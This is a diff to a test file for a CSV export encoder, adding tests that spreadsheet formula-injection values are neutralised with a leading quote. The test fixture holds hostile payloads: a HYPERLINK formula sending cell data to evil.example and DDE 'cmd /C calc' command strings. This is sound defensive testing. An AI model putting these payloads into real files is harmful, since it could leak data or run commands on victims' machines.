@@ -1,6 +1,7 @@
 import { parse } from 'csv-parse/sync';
 import { describe, expect, it } from 'vitest';
 import { CSV_COLUMNS, createEncoder, encodeAll } from '../../../../src/core/export/formats/index.js';
+import { neutraliseCell } from '../../../../src/core/export/formats/csv.js';
 import { eventKey } from '../../../../src/shared/model.js';
 import { sampleEvents } from '../../../support/sample-events.js';
 
@@ -42,5 +43,50 @@ describe('CSV format', () => {
 
   it('writes only the header for an empty folder', () => {
     expect(parse(encodeAll(createEncoder('csv', meta), []))).toEqual([[...CSV_COLUMNS]]);
+  });
+
+  describe('cells a spreadsheet would evaluate', () => {
+    const hostile = {
+      ...events[0],
+      subject: '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+      location: "+cmd|' /C calc'!A0",
+      organizer: { name: "@SUM(1+1)*cmd|' /C calc'!A0", email: 'x@contoso.com' },
+      categories: ['-2+3'],
+      body: '\t=1+1',
+      attendees: [{ name: '\r=1', email: 'a@contoso.com', type: 'required' as const, response: 'none' as const }],
+    };
+
+    it('are neutralised by default with a leading single quote (OWASP), everything else unchanged', () => {
+      const [r] = parse(encodeAll(createEncoder('csv', meta), [hostile]), { columns: true }) as Record<string, string>[];
+      expect(r.subject).toBe(`'${hostile.subject}`);
+      expect(r.location).toBe(`'${hostile.location}`);
+      expect(r.organizerName).toBe(`'${hostile.organizer.name}`);
+      expect(r.categories).toBe("'-2+3");
+      expect(r.body).toBe("'\t=1+1");
+      expect(r.attendees).toBe("'\r=1 <a@contoso.com>");
+      expect(r.organizerEmail).toBe('x@contoso.com');
+      expect(r.start).toBe(hostile.start);
+      expect(r.mailbox).toBe(meta.mailbox);
+    });
+
+    it('full-width formula characters are neutralised too; plain text is not touched', () => {
+      expect(neutraliseCell('＝1+1')).toBe("'＝1+1");
+      expect(neutraliseCell('Team meeting = important')).toBe('Team meeting = important');
+      expect(neutraliseCell('')).toBe('');
+    });
+
+    it('a job for machine consumers keeps them as they are', () => {
+      const [r] = parse(encodeAll(createEncoder('csv', meta, { csvKeepFormulas: true }), [hostile]), { columns: true }) as Record<
+        string,
+        string
+      >[];
+      expect(r.subject).toBe(hostile.subject);
+      expect(r.location).toBe(hostile.location);
+    });
+
+    it('the ICS and JSON formats are not changed by it', () => {
+      expect(encodeAll(createEncoder('json', meta), [hostile])).toContain('=HYPERLINK');
+      expect(encodeAll(createEncoder('json', meta), [hostile])).not.toContain("'=HYPERLINK");
+    });
   });
 });
